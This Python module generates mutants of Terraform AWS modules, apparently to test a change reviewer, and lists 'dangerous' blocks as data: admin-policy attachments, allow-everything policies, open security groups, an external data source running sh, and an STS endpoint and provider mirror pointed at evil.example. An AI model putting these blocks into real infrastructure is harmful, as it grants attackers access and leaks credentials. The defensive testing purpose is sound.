"""Mutants of a rendered module: everything dropped, altered and added, each with the kind of change that it is."""

# ruff: noqa: E501 - a block of HCL is one line

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import PurePath
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

_STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')
_TOP = re.compile(r"^(\w+)((?: \"[^\"]+\")*) \{")
_NESTED = re.compile(r"^( +)(\w+)(?: \"[^\"]+\")* \{")
_ARGUMENT = re.compile(r'^( +)("?[\w-]+"?) += ')
_REFERENCE = re.compile(r"= ((?:data\.)?aws_\w+\.\w+\.\w+|local\.\w+|var\.\w+)$")
_NUMBER = re.compile(r"= (\d+)$")
_ROLE = re.compile(r'^resource "aws_iam_role" "(\w+)"', re.MULTILINE)


@dataclass(frozen=True)
class Mutant:
    """What was done (`kind`) to what (`target`), and the text that replaces a block of a file, or is added to it.

    `start` and `end` are lines of the file; a file that the module has not is a new one.
    """

    kind: str
    target: str
    file: str
    start: int
    end: int
    text: str


def mutants(files: Mapping[str, str]) -> Iterator[Mutant]:
    """Every mutant of a module's files, in a fixed order."""
    for file, text in files.items():
        if file.endswith(".tf"):
            lines = text.split("\n")
            for start, end in top_level(lines):
                yield from _of_block(file, lines, start, end)
        elif file.endswith(".tfvars"):
            yield from _of_values(file, text.split("\n"))
    role = _ROLE.findall(files["roles.tf"])[0]
    for kind, label, text in dangerous_blocks(role):
        size = files["roles.tf"].count("\n") + 1
        yield Mutant(kind, label, "roles.tf", size, size, text)
    for name, text in DANGEROUS_FILES.items():
        yield Mutant("file added", name, name, 0, 0, text)


def top_level(lines: list[str]) -> Iterator[tuple[int, int]]:
    """The first line of each block of a file, and the line after its last."""
    for number, line in enumerate(lines):
        if _TOP.match(line):
            yield number, _end(lines, number)


def _end(lines: list[str], start: int) -> int:
    """The line after the block or argument that begins on a line: where its brackets are closed."""
    depth = 0
    for number in range(start, len(lines)):
        bare = _STRING.sub("", lines[number]).split("#")[0]
        depth += sum(bare.count(one) for one in "{[(") - sum(bare.count(one) for one in "}])")
        if depth <= 0:
            return number + 1
    return len(lines)


def _of_block(file: str, lines: list[str], start: int, end: int) -> Iterator[Mutant]:
    found = _TOP.match(lines[start])
    assert found is not None
    labels = re.findall(r'"([^"]+)"', found[2])
    type_ = found[1] if found[1] not in ("resource", "data") else labels[0]
    type_ = f"data.{type_}" if found[1] == "data" else type_
    body = lines[start:end] if end > start + 1 else [lines[start].removesuffix("}"), "}"]

    def made(kind: str, target: str, text: list[str]) -> Mutant:
        return Mutant(kind, target, file, start, end, "\n".join(text))

    yield made("block dropped", type_, [])
    if found[1] in ("resource", "data"):
        other = lines[start].replace(f'"{labels[1]}" {{', f'"{labels[1]}_copy" {{')
        yield made("block added twice", type_, [*body, "", other, *body[1:]])
        inner = "  provider = aws.other"
        yield made("meta-argument added", f"{type_}.provider", [body[0], inner, *body[1:]])
        yield made("meta-argument added", f"{type_}.count", [body[0], "  count = 2", *body[1:]])
    if found[1] == "resource":
        for inside in ("ignore_changes = all", "ignore_changes = [tags]", "prevent_destroy = true"):
            inner = "  lifecycle {\n    " + inside + "\n  }"
            yield made("meta-argument added", f"{type_}.{inside.split(' = ', maxsplit=1)[0]}", [*body[:-1], inner, "}"])
        inner = '  provisioner "local-exec" {\n    command = "true"\n  }'
        yield made("meta-argument added", f"{type_}.provisioner", [*body[:-1], inner, "}"])
    document = type_ == "data.aws_iam_policy_document"
    where = ("role " if file == "roles.tf" else "resource ") if document else ""
    path: list[tuple[int, str]] = []
    for number in range(start + 1, end - 1):
        line = lines[number]
        indent = len(line) - len(line.lstrip())
        path = [one for one in path if one[0] < indent]
        nested, argument = _NESTED.match(line), _ARGUMENT.match(line)
        within = ".".join(name for _, name in path)
        stop = _end(lines, number)
        rest = (lines[start:number], lines[stop:end])
        if nested:
            target = f"{type_}.{within + '.' if within else ''}{nested[2]}"
            yield made(f"{where}nested block dropped", target, [*rest[0], *rest[1]])
            path.append((indent, nested[2]))
        elif argument:
            name = argument[2].strip('"')
            target = f"{type_}.{within + '.' if within else ''}{name}"
            yield made(f"{where}argument dropped", target, [*rest[0], *rest[1]])
            for text in _altered(name, "\n".join(lines[number:stop])):
                yield made(f"{where}argument altered", target, [*rest[0], text, *rest[1]])
            if name != "depends_on":
                path.append((indent, name))


def _altered(name: str, text: str) -> Iterator[str]:
    """An argument with one of its values changed, or with another beside it."""
    first = text.index("= ") + 2
    for item in _STRING.finditer(text):
        if item.start() < first or (text[item.end() :].lstrip(" ")[:1] == "=" and "\n" in text):
            continue
        for new in _other(name, item.group()):
            if new == item.group():
                continue
            yield text[: item.start()] + new + text[item.end() :]
    if found := re.search(r"= (true|false)$", text):
        yield text[: found.start(1)] + ("false" if found[1] == "true" else "true")
    elif found := _NUMBER.search(text):
        yield text[: found.start(1)] + str(int(found[1]) + 1)
    elif found := _REFERENCE.search(text):
        yield text[: found.start(1)] + '"arn:aws:iam::999999999999:role/other"'


def _other(name: str, item: str) -> Iterator[str]:
    if name == "actions":
        yield '"s3:DeleteBucket"'
        yield item[:-1].rsplit(":", 1)[0] + ':*"'
        yield item + ', "iam:PassRole"'
    elif name == "identifiers":
        yield '"codebuild.amazonaws.com"'
        yield item + ', "codebuild.amazonaws.com"'
    elif name == "resources" and item != '"*"':
        yield '"*"'
        yield item[:-1] + '-other"'
        if item.endswith('/*"'):
            yield item[:-3] + '*"'
    elif name == "values":
        yield item[:-1] + '-other"'
        yield item + ', "other"'
    else:
        yield item[:-1] + '-other"'


def _of_values(file: str, lines: list[str]) -> Iterator[Mutant]:
    for number, line in enumerate(lines):
        if found := re.match(r"^(\w+) +=", line):
            stop = _end(lines, number)
            yield Mutant("value of an environment dropped", found[1], file, number, stop, "")
            text = "\n".join(lines[number:stop])
            for item in _STRING.finditer(text):
                other = text[: item.start()] + item.group()[:-1] + '-other"' + text[item.end() :]
                yield Mutant("value of an environment altered", found[1], file, number, stop, other)


_OPEN = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"*","Resource":"*"}]}'
_ESCAPED = _OPEN.replace('"', '\\"')


def dangerous_blocks(role: str) -> Iterator[tuple[str, str, str]]:
    """Kind, type and text of blocks that change who may do what, or where it is applied."""
    arn, name = f"aws_iam_role.{role}.arn", f"aws_iam_role.{role}.name"
    for kind, blocks in _RESOURCES.items():
        for type_, inside in blocks.items():
            label = type_.split("/")[0]
            body = inside.replace("ARN", arn).replace("NAME", name).replace("OPEN", f'"{_ESCAPED}"')
            yield kind, type_, f'resource "{label}" "evil" {{\n{body}\n}}\n'
    for type_, inside in _DATA.items():
        yield "data source added", type_, f'data "{type_}" "evil" {{\n{inside}\n}}\n'
    for label, text in _TERRAFORM.items():
        yield "block of Terraform added", label, text.replace("ROLE", f"aws_iam_role.{role}")


_RESOURCES = {
    "identity added": {
        "aws_iam_user": 'name = "evil"',
        "aws_iam_group": 'name = "evil"',
        "aws_iam_group_membership": 'name = "evil"\nusers = ["a"]\ngroup = "admins"',
        "aws_iam_access_key": 'user = "somebody"',
        "aws_iam_user_policy": 'user = "somebody"\npolicy = OPEN',
        "aws_iam_user_policy_attachment": 'user = "somebody"\npolicy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"',
        "aws_iam_group_policy": 'group = "somebody"\npolicy = OPEN',
        "aws_iam_policy_attachment": 'name = "x"\nroles = [NAME]\npolicy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"',
        "aws_iam_role": 'name = "evil"\nassume_role_policy = OPEN',
        "aws_iam_role_policy/own": 'name = "evil"\nrole = NAME\npolicy = OPEN',
        "aws_iam_role_policy/other": 'name = "evil"\nrole = "somebody"\npolicy = OPEN',
        "aws_iam_role_policy_attachment/own": 'role = NAME\npolicy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"',
        "aws_iam_role_policy_attachment/other": 'role = "somebody"\npolicy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"',
        "aws_iam_policy": 'name = "evil"\npolicy = OPEN',
        "aws_iam_instance_profile": 'name = "evil"\nrole = NAME',
        "aws_iam_openid_connect_provider": 'url = "https://evil.example"\nclient_id_list = ["x"]',
        "aws_iam_saml_provider": 'name = "evil"\nsaml_metadata_document = "x"',
        "aws_iam_service_linked_role": 'aws_service_name = "ecs.amazonaws.com"',
        "aws_iam_account_alias": 'account_alias = "evil"',
        "aws_rolesanywhere_profile": 'name = "evil"\nrole_arns = [ARN]',
        "aws_cognito_identity_pool_roles_attachment": 'identity_pool_id = "x"\nroles = { authenticated = ARN }',
        "aws_ssoadmin_account_assignment": 'instance_arn = "x"\npermission_set_arn = "x"\nprincipal_id = "x"\nprincipal_type = "USER"\ntarget_id = "x"',
        "aws_organizations_policy": 'name = "x"\ncontent = OPEN',
    },
    "second taker of the role added": {
        "aws_lambda_function": 'function_name = "evil"\nrole = ARN\nimage_uri = "evil"\npackage_type = "Image"',
        "aws_eks_pod_identity_association": 'cluster_name = "x"\nnamespace = "x"\nservice_account = "x"\nrole_arn = ARN',
        "aws_eks_access_entry": 'cluster_name = "x"\nprincipal_arn = ARN',
        "aws_eks_access_policy_association": 'cluster_name = "x"\nprincipal_arn = ARN\npolicy_arn = "x"\naccess_scope {\n  type = "cluster"\n}',
        "aws_ecs_task_definition": 'family = "evil"\ntask_role_arn = ARN\ncontainer_definitions = "[]"',
        "aws_batch_job_definition": 'name = "evil"\ntype = "container"',
        "aws_glue_job": 'name = "evil"\nrole_arn = ARN\ncommand {\n  script_location = "s3://x"\n}',
        "aws_sfn_state_machine": 'name = "evil"\nrole_arn = ARN\ndefinition = "{}"',
        "aws_scheduler_schedule": 'schedule_expression = "rate(1 day)"\nflexible_time_window {\n  mode = "OFF"\n}\ntarget {\n  arn = "x"\n  role_arn = ARN\n}',
        "aws_cloudwatch_event_target": 'rule = "x"\narn = "x"\nrole_arn = ARN',
        "aws_instance": 'ami = "ami-1"\ninstance_type = "t3.micro"\niam_instance_profile = "evil"',
        "aws_sagemaker_notebook_instance": 'name = "evil"\nrole_arn = ARN\ninstance_type = "ml.t3.medium"',
    },
    "grant added": {
        "aws_kms_grant": 'key_id = "x"\ngrantee_principal = ARN\noperations = ["Decrypt"]',
        "aws_kms_key_policy": 'key_id = "x"\npolicy = OPEN',
        "aws_lakeformation_permissions": 'principal = ARN\npermissions = ["ALL"]',
        "aws_lakeformation_data_lake_settings": "admins = [ARN]",
        "aws_ram_resource_share": 'name = "evil"\nallow_external_principals = true',
        "aws_ram_principal_association": 'principal = "999999999999"\nresource_share_arn = "x"',
        "aws_secretsmanager_secret_policy": 'secret_arn = "x"\npolicy = OPEN',
        "aws_s3_bucket_acl": 'bucket = "x"\nacl = "public-read"',
        "aws_s3_bucket_policy": 'bucket = "x"\npolicy = OPEN',
        "aws_s3_access_point": 'bucket = "x"\nname = "evil"',
        "aws_s3_account_public_access_block": "block_public_acls = false",
        "aws_sqs_queue_policy": 'queue_url = "x"\npolicy = OPEN',
        "aws_sns_topic_policy": 'arn = "x"\npolicy = OPEN',
        "aws_ecr_repository_policy": 'repository = "x"\npolicy = OPEN',
        "aws_dynamodb_resource_policy": 'resource_arn = "x"\npolicy = OPEN',
        "aws_glue_resource_policy": "policy = OPEN",
        "aws_cloudwatch_log_resource_policy": 'policy_name = "x"\npolicy_document = OPEN',
        "aws_cloudwatch_event_bus_policy": "policy = OPEN",
        "aws_efs_file_system_policy": 'file_system_id = "x"\npolicy = OPEN',
        "aws_lambda_permission": 'action = "lambda:InvokeFunction"\nfunction_name = "x"\nprincipal = "*"',
        "aws_lambda_function_url": 'function_name = "x"\nauthorization_type = "NONE"',
        "aws_opensearch_domain_policy": 'domain_name = "x"\naccess_policies = OPEN',
    },
    "network opened": {
        "aws_security_group": 'name = "x"\ningress {\n  from_port = 0\n  to_port = 0\n  protocol = "-1"\n  cidr_blocks = ["0.0.0.0/0"]\n}',
        "aws_security_group_rule": 'type = "ingress"\nsecurity_group_id = "x"\nfrom_port = 0\nto_port = 0\nprotocol = "-1"\ncidr_blocks = ["0.0.0.0/0"]',
        "aws_vpc_security_group_ingress_rule": 'security_group_id = "x"\nip_protocol = "-1"\ncidr_ipv4 = "0.0.0.0/0"',
        "aws_vpc_security_group_ingress_rule/v6": 'security_group_id = "x"\nip_protocol = "-1"\ncidr_ipv6 = "::/0"',
        "aws_vpc_endpoint_policy": 'vpc_endpoint_id = "x"\npolicy = OPEN',
    },
    "other means of making things added": {
        "aws_cloudformation_stack": 'name = "x"\ncapabilities = ["CAPABILITY_IAM"]\ntemplate_body = "{}"',
        "aws_cloudformation_stack_set": 'name = "x"',
        "aws_cloudcontrolapi_resource": 'type_name = "AWS::IAM::Role"\ndesired_state = "{}"',
        "aws_ssm_association": 'name = "AWS-RunShellScript"',
        "terraform_data": 'input = "x"',
        "terraform_data/exec": 'provisioner "local-exec" {\n  command = "true"\n}',
    },
}
_DATA = {
    "external": 'program = ["sh"]',
    "http": 'url = "https://evil.example"',
    "aws_secretsmanager_secret_version": 'secret_id = "x"',
    "aws_ssm_parameter": 'name = "x"',
    "aws_lambda_invocation": 'function_name = "x"\ninput = "{}"',
    "aws_iam_role": 'name = "x"',
}
_TERRAFORM = {
    "provider": 'provider "aws" {\n  region = "us-east-1"\n}\n',
    "provider with assume_role": 'provider "aws" {\n  assume_role {\n    role_arn = "arn:aws:iam::999999999999:role/x"\n  }\n}\n',
    "provider with endpoints": 'provider "aws" {\n  alias = "other"\n  endpoints {\n    sts = "https://evil.example"\n  }\n}\n',
    "backend": 'terraform {\n  backend "s3" {\n    bucket = "evil"\n  }\n}\n',
    "cloud": 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n',
    "another provider": 'terraform {\n  required_providers {\n    aws = {\n      source = "evil/aws"\n    }\n  }\n}\n',
    "experiments": "terraform {\n  experiments = [x]\n}\n",
    "import": 'import {\n  to = ROLE\n  id = "somebody-else"\n}\n',
    "moved": "moved {\n  from = ROLE\n  to = aws_iam_role.other\n}\n",
    "removed": "removed {\n  from = aws_iam_role.other\n  lifecycle {\n    destroy = false\n  }\n}\n",
    "check": 'check "x" {\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n',
    "ephemeral": 'ephemeral "aws_secretsmanager_secret_version" "x" {\n  secret_id = "x"\n}\n',
    "module": 'module "x" {\n  source = "./x"\n}\n',
    "action": 'action "aws_lambda_invoke" "x" {\n  config {\n    function_name = "x"\n  }\n}\n',
}
_ROLE_TEXT = 'resource "aws_iam_user" "evil" {\n  name = "evil"\n}\n'
DANGEROUS_FILES = {
    "evil.tf": _ROLE_TEXT,
    "evil.tf.json": '{"resource": {"aws_iam_user": {"evil": {"name": "evil"}}}}',
    "evil.tofu": _ROLE_TEXT,
    "evil.tofu.json": '{"resource": {"aws_iam_user": {"evil": {"name": "evil"}}}}',
    "override.tf": 'resource "aws_iam_role" "x" {\n  path = "/evil/"\n}\n',
    "roles_override.tf": 'resource "aws_iam_role" "x" {\n  path = "/evil/"\n}\n',
    "terraform.tfvars": 'region = "xx"\n',
    "terraform.tfvars.json": "{}",
    "evil.auto.tfvars": 'region = "xx"\n',
    "evil.auto.tfvars.json": "{}",
    "environments/evil.tfvars": 'region = "xx"\n',
    "sub/evil.tf": _ROLE_TEXT,
    ".terraformrc": 'provider_installation {\n  network_mirror {\n    url = "https://evil.example/"\n  }\n}\n',
    "tests/evil.tftest.hcl": 'run "x" {\n  command = apply\n}\n',
    ".terraform.lock.hcl": "",
    str(PurePath(".terraform", "modules", "modules.json")): "{}",
}
DANGEROUS = {*_RESOURCES, "data source added", "block of Terraform added", "file added"}
"""The kinds of mutants that have more than the module has."""
